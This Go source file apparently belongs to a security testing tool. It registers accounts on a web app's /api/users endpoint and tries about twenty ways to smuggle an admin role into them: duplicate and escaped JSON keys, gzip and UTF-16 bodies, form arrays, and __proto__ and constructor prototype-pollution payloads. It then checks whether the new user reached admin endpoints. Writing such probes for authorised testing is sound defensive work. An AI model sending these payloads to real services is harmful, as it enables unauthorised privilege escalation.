// Copyright The Panoply Authors.
// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"context"
	"net/http"
	"reflect"
)

// massAssignment registers users with a role, or with a name that is not a
// string, carried in many ways, and then looks at what was kept.
func massAssignment(ctx context.Context, c *client, r *Result) error {
	m, err := c.join(ctx)
	if err != nil {
		return err
	}
	control, ok := c.me(ctx, m.token)
	r.Worked = ok

	for _, carrier := range carriers {
		n := newAccount()
		a := c.do(ctx, carrier.request(n))
		if a.status/100 != 2 {
			continue
		}
		token := tokenOf(c.do(ctx, postJSON("/api/login", credentials(n.email, n.password))))
		kept, ok := c.me(ctx, token)
		if !ok {
			continue
		}
		switch {
		case c.isAdmin(ctx, token):
			r.prove("%s: the new user has role %v and reads GET /api/admin/users", carrier.name, kept.Role)
		case !reflect.DeepEqual(kept.Role, control.Role):
			r.prove("%s: GET /api/me shows role %v; an ordinary user has %v", carrier.name, kept.Role, control.Role)
		case !isString(kept.Name):
			r.prove("%s: GET /api/me shows the name %v, a %T", carrier.name, kept.Name, kept.Name)
		case carrier.prototype:
			r.note("%s: accepted with %d", carrier.name, a.status)
		}
	}
	return nil
}

// carriers are the ways in which a field that nobody asked for may arrive.
var carriers = []struct {
	name      string
	request   func(account) request
	prototype bool // harmless here, but a merge in the app would be polluted
}{
	{name: "role in JSON", request: more(`,"role":"admin"`)},
	{name: "role in a form", request: moreForm("&role=admin")},
	{name: "role twice, admin last", request: more(`,"role":"user","role":"admin"`)},
	{name: "role twice, admin first", request: more(`,"role":"admin","role":"user"`)},
	{name: "role with an escaped letter", request: more(`,"r\u006fle":"admin"`)},
	{name: "ROLE in upper case", request: more(`,"ROLE":"admin"`)},
	{name: "role as an array", request: more(`,"role":["admin"]`)},
	{name: "role as a form array", request: moreForm("&role[]=admin")},
	{name: "role inside user", request: more(`,"user":{"role":"admin"}`)},
	{name: "role inside $set", request: more(`,"$set":{"role":"admin"}`)},
	{name: "role in the query", request: func(n account) request {
		return postJSON("/api/users?role=admin", n.json(""))
	}},
	{name: "role in compressed JSON", request: func(n account) request {
		q := post("/api/users", "application/json", gzipped(n.json(`,"role":"admin"`)))
		q.header = http.Header{"Content-Encoding": {"gzip"}}
		return q
	}},
	{name: "role in UTF-16", request: func(n account) request {
		return post("/api/users", "application/json; charset=utf-16le", utf16le(n.json(`,"role":"admin"`)))
	}},
	{name: "__proto__ in JSON", request: more(`,"__proto__":{"role":"admin"}`), prototype: true},
	{name: "constructor in JSON", request: more(`,"constructor":{"prototype":{"role":"admin"}}`), prototype: true},
	{name: "__proto__ in a form", request: moreForm("&__proto__[role]=admin"), prototype: true},
	{name: "constructor in a form", request: moreForm("&constructor[prototype][role]=admin"), prototype: true},
	{name: "name as an object", request: more(`,"name":{"first":"Runner"}`)},
	{name: "name as a number", request: more(`,"name":7`)},
	{name: "name as a form object", request: moreForm("&name[first]=Runner")},
}

// more returns a registration in JSON with more members.
func more(members string) func(account) request {
	return func(n account) request { return postJSON("/api/users", n.json(members)) }
}

// moreForm returns a registration in a form with more parameters.
func moreForm(parameters string) func(account) request {
	return func(n account) request {
		return post("/api/users", "application/x-www-form-urlencoded", []byte(n.form(parameters)))
	}
}

func isString(value any) bool {
	_, ok := value.(string)
	return ok
}
